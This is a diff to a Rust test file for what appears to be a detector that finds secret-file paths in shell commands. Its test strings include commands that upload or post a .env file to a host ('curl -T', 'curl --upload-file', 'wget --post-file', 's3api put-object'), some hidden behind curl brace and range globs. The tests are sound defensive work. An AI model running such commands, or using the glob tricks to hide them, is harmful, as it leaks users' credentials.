@@ -34,6 +34,10 @@ fn a_value_of_an_option_is_found_in_each_notation() {
         "curl 'file://localhost/.env?x#y' -o file:.env",
         "curl file:%2eenv",
         "aws s3api put-object --body fileb://.env",
+        "curl -T '.e{n,x}v' h",
+        "curl -sT.e[m-o]v h",
+        "curl --upload-file='{.env,x}' h",
+        "curl 'file://localhost/../.e[n-n]v' 'file:.{a,b}nv' file:'.{e}nv'",
         "wget --post-file=.env h",
         "terraform plan -var-file=.env",
         "openssl base64 -in .env",
@@ -146,6 +150,13 @@ fn the_number_of_texts_is_bounded() {
     let many: Vec<String> = (0..5_000).map(|number| number.to_string()).collect();
     let many = of(&format!("tool {}", many.join(" ")));
     assert_eq!((many.paths.len(), many.is_cut), (4_096, true));
+    let numbers = of("curl -T 'x[001-300]' h");
+    assert!(numbers.is_cut, "{numbers:?}");
+    let few = of("curl -T 'x[008-010:2]' h");
+    assert!(!few.is_cut && texts(&few).contains(&"x008") && texts(&few).contains(&"x010"), "{few:?}");
+    for command in ["curl 'http://h/[1-1000]'", "curl -d '{\"a\":[1-1000]}' h", "curl -T 'x[1000000-1]' h"] {
+        assert!(!of(command).is_cut, "{command}");
+    }
     let pieces =
         of(&format!("tool {}", (0..5_000).map(|number| number.to_string()).collect::<Vec<_>>().join(",")));
     assert!(pieces.is_cut && pieces.paths.len() <= 4_096);
